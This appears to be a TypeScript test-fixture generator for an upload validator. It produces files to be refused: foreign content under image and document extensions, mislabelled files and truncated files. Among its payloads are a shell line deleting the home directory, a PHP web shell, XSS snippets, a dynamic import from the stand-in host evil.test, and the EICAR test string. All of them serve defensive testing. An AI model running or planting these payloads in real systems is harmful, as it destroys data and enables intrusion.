import { readFile } from 'node:fs/promises'
import path from 'node:path'
import sharp from 'sharp'
import { bmpOf, noise, randomOf, zipOf, type NamedFile } from './build.ts'
import { badOffice } from './badOffice.ts'
import { badPdfs } from './badPdfs.ts'
import { badPictures } from './badPictures.ts'

/** Files that must be refused: foreign content under every extension, and dangerous features of each format. */

const EXTENSIONS = ['jpg', 'jpeg', 'png', 'gif', 'bmp', 'pdf', 'doc', 'docx', 'rtf']
const FOLDER = path.join(import.meta.dirname, '../../../e2e/files')

const random = randomOf(41)
/** In two parts, so that virus scanners ignore this source. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const program = Buffer.concat([Buffer.from('MZ\u0090\u0000\u0003', 'latin1'), noise(random, 3_000)])

const FOREIGN: Record<string, Buffer> = {
  'a Windows program': program,
  'a Linux program': Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001'), noise(random, 3_000)]),
  'a Java class': Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), noise(random, 500)]),
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n'),
  'a web page': Buffer.from('<!doctype html><html><script>alert(document.domain)</script></html>'),
  'a picture with scripts': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'a PHP page': Buffer.from('<?php system($_GET["c"]); ?>'),
  JavaScript: Buffer.from('import("https://evil.test/x.js")\n'.repeat(20)),
  'plain text': Buffer.from('Certified copy\n'.repeat(50)),
  'random bytes': noise(random, 4_000),
  zeros: Buffer.alloc(4_000),
  'one byte': Buffer.from([0x25]),
  'the test virus': Buffer.from(EICAR),
  'a ZIP archive': zipOf([{ name: 'letter.exe', content: program }]),
  'a RAR archive': Buffer.concat([Buffer.from('526172211a070100', 'hex'), noise(random, 500)]),
  'a 7z archive': Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), noise(random, 500)]),
  'a gzip archive': Buffer.concat([Buffer.from('1f8b0800', 'hex'), noise(random, 500)]),
  'a shortcut': Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), noise(random, 500)]),
  'a WebP picture': await sharp(bmpOfPng()).webp().toBuffer(),
  'a TIFF picture': await sharp(bmpOfPng()).tiff().toBuffer(),
  'a film': Buffer.concat([
    Buffer.from('\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom'),
    noise(random, 900),
  ]),
}

function bmpOfPng() {
  return { create: { width: 20, height: 20, channels: 3 as const, background: '#fff' } }
}

function foreignFiles(): NamedFile[] {
  return EXTENSIONS.flatMap((extension) =>
    Object.entries(FOREIGN).map(([what, content]) => ({
      about: `${what} as .${extension}`,
      name: `file.${extension}`,
      content,
    })),
  )
}

/** Valid files with the wrong extension, and truncated files. */
async function disguisedAndCut(): Promise<NamedFile[]> {
  const real: Record<string, Buffer> = {
    gif: await sharp(bmpOfPng()).gif().toBuffer(),
    bmp: bmpOf(40, 30, 24),
  }
  for (const each of ['jpg', 'png', 'pdf', 'doc', 'docx', 'rtf', 'heic']) {
    real[each] = await readFile(path.join(FOLDER, `letter.${each}`))
  }
  const kinds = Object.entries(real)
  const disguised = kinds.flatMap(([actual, content]) =>
    EXTENSIONS.filter((extension) => extension.replace('jpeg', 'jpg') !== actual).map((extension) => ({
      about: `${actual} as .${extension}`,
      name: `file.${extension}`,
      content,
    })),
  )
  const cut = kinds
    .filter(([extension]) => extension !== 'heic')
    .flatMap(([extension, content]) =>
      [0.2, 0.5, 0.8].map((part) => ({
        about: `the first ${part * 100}% of a .${extension}`,
        name: `file.${extension}`,
        content: content.subarray(0, Math.floor(content.length * part)),
      })),
    )
  return [...disguised, ...cut]
}

export async function badFiles(): Promise<NamedFile[]> {
  return [
    ...foreignFiles(),
    ...(await disguisedAndCut()),
    ...(await badPictures(program)),
    ...(await badPdfs(program)),
    ...badOffice(program, EICAR),
  ]
}
